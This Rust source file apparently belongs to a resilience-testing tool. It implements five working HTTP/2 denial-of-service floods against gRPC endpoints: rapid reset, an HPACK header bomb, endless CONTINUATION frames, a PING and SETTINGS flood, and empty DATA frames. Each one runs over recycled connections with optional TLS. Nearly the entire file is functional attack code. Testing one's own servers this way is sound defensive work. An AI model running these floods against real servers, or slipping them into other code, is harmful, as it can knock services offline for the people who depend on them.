//! HTTP/2 frames that no client sends: resets, header bombs, floods.

use std::io;
use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, WriteHalf};

use super::{Attack, AttackContext, Breach, CONNECT_TIME_MAX, attack, unless_stalled};
use crate::target::TargetKind;
use crate::wire::http2::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame,
};
use crate::wire::rma::ByteStream;
use crate::wire::{dial, tls};

const GRPC: &[TargetKind] = &[TargetKind::Gateway, TargetKind::Orderer, TargetKind::Kv];

pub fn attacks() -> Vec<Attack> {
    vec![
        attack!("rapid-reset", "opens streams and resets them", GRPC, 20000.0 "streams", rapid_reset),
        attack!("header-bomb", "repeats a long header by its index", GRPC, 200.0 "streams", header_bomb),
        attack!("endless-headers", "never ends its headers", GRPC, 400.0 "frames of 16 KiB", endless_headers),
        attack!("pings-and-settings", "asks for answers and takes none", GRPC, 40000.0 "frames", pings),
        attack!("empty-frames", "sends data of no bytes", GRPC, 40000.0 "frames", empty_frames),
    ]
}

/// Frames that one connection sends before it is replaced.
const FRAMES_PER_CONNECTION: u64 = 20_000;
/// Frames that are written together.
const BATCH: u32 = 50;

/// Repeatedly sends the bytes that `batch` returns, over one connection after another. A batch counts as `units` units.
async fn flood(
    scene: Arc<AttackContext>,
    units: f64,
    begin: impl Fn() -> Vec<u8>,
    batch: impl Fn(u64) -> Vec<u8>,
    reads: bool,
) -> io::Result<Breach> {
    'connections: loop {
        let Ok(Ok(stream)) = tokio::time::timeout(CONNECT_TIME_MAX, connect(&scene)).await else {
            if scene.pace.take(units).await {
                continue;
            }
            return Ok(None);
        };
        scene.pace.connected();
        let (mut reader, mut writer) = tokio::io::split(stream);
        let reading = tokio::spawn(async move {
            let mut bytes = [0; 16 << 10];
            while reads && matches!(reader.read(&mut bytes).await, Ok(1..)) {}
            if !reads {
                std::future::pending::<()>().await;
            }
        });
        let mut is_open = unless_stalled(send(&mut writer, &[http2::preface(), begin()].concat())).await.is_ok();
        for number in 0..FRAMES_PER_CONNECTION {
            if !scene.pace.take(units).await {
                reading.abort();
                return Ok(None);
            }
            let bytes = batch(number);
            // If the server takes no more, it has stopped this connection; another one replaces it.
            is_open = is_open && unless_stalled(send(&mut writer, &bytes)).await.is_ok();
            if !is_open {
                reading.abort();
                continue 'connections;
            }
            scene.pace.sent(bytes.len());
        }
        reading.abort();
    }
}

async fn send(writer: &mut WriteHalf<Box<dyn ByteStream>>, bytes: &[u8]) -> io::Result<()> {
    writer.write_all(bytes).await?;
    writer.flush().await
}

async fn connect(scene: &AttackContext) -> io::Result<Box<dyn ByteStream>> {
    let socket = dial(&scene.port.address).await?;
    Ok(match scene.target.grpc_tls(None)? {
        Some(config) => Box::new(tls::connect(&config, socket).await?),
        None => Box::new(socket),
    })
}

/// The number of a batch's stream; odd, as a client's are.
fn stream(batch: u64, place: u32) -> u32 {
    ((batch as u32) * BATCH + place) * 2 + 1
}

async fn rapid_reset(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let call = http2::call("/gateway.Gateway/Evaluate");
    let batch = move |number| {
        let pairs = (0..BATCH).flat_map(|place| {
            let stream = stream(number, place);
            [frame(HEADERS, END_HEADERS, stream, &call), frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())]
        });
        pairs.flatten().collect()
    };
    flood(scene, f64::from(BATCH), Vec::new, batch, true).await
}

async fn header_bomb(scene: Arc<AttackContext>) -> io::Result<Breach> {
    // One header of 3,900 bytes in the table, then 12,000 references to it of a byte each: 46 MiB when unpacked.
    let begin = || {
        let block = [http2::call("/gateway.Gateway/Evaluate"), http2::indexed("x", &[b'x'; 3_900])].concat();
        frame(HEADERS, END_HEADERS, 1, &block)
    };
    let batch = |number| {
        let block = [http2::call("/gateway.Gateway/Evaluate"), vec![http2::LAST_INDEXED; 12_000]].concat();
        frame(HEADERS, END_HEADERS, stream(number, 1), &block)
    };
    flood(scene, 1.0, begin, batch, true).await
}

async fn endless_headers(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let begin = || frame(HEADERS, 0, 1, &http2::call("/gateway.Gateway/Evaluate"));
    let field = [vec![0], vec![1, b'x'], vec![127, 0x81, 0x7e], vec![b'x'; 127 + 0x3f01]].concat();
    let batch = move |_| frame(CONTINUATION, 0, 1, &field);
    flood(scene, 1.0, begin, batch, true).await
}

async fn pings(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let batch = |_| {
        let pairs = (0..BATCH / 2).flat_map(|_| [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])]);
        pairs.flatten().collect()
    };
    flood(scene, f64::from(BATCH), Vec::new, batch, false).await
}

async fn empty_frames(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let begin = || frame(HEADERS, END_HEADERS, 1, &http2::call("/protos.Deliver/Deliver"));
    let batch = |number| {
        let mut frames: Vec<u8> = (0..BATCH - 1).flat_map(|_| frame(DATA, 0, 1, &[])).collect();
        // Now and then one stream ends, so that the connection makes progress.
        let stream = stream(number, 2);
        frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &http2::call("/protos.Deliver/Deliver")));
        frames
    };
    flood(scene, f64::from(BATCH), begin, batch, true).await
}
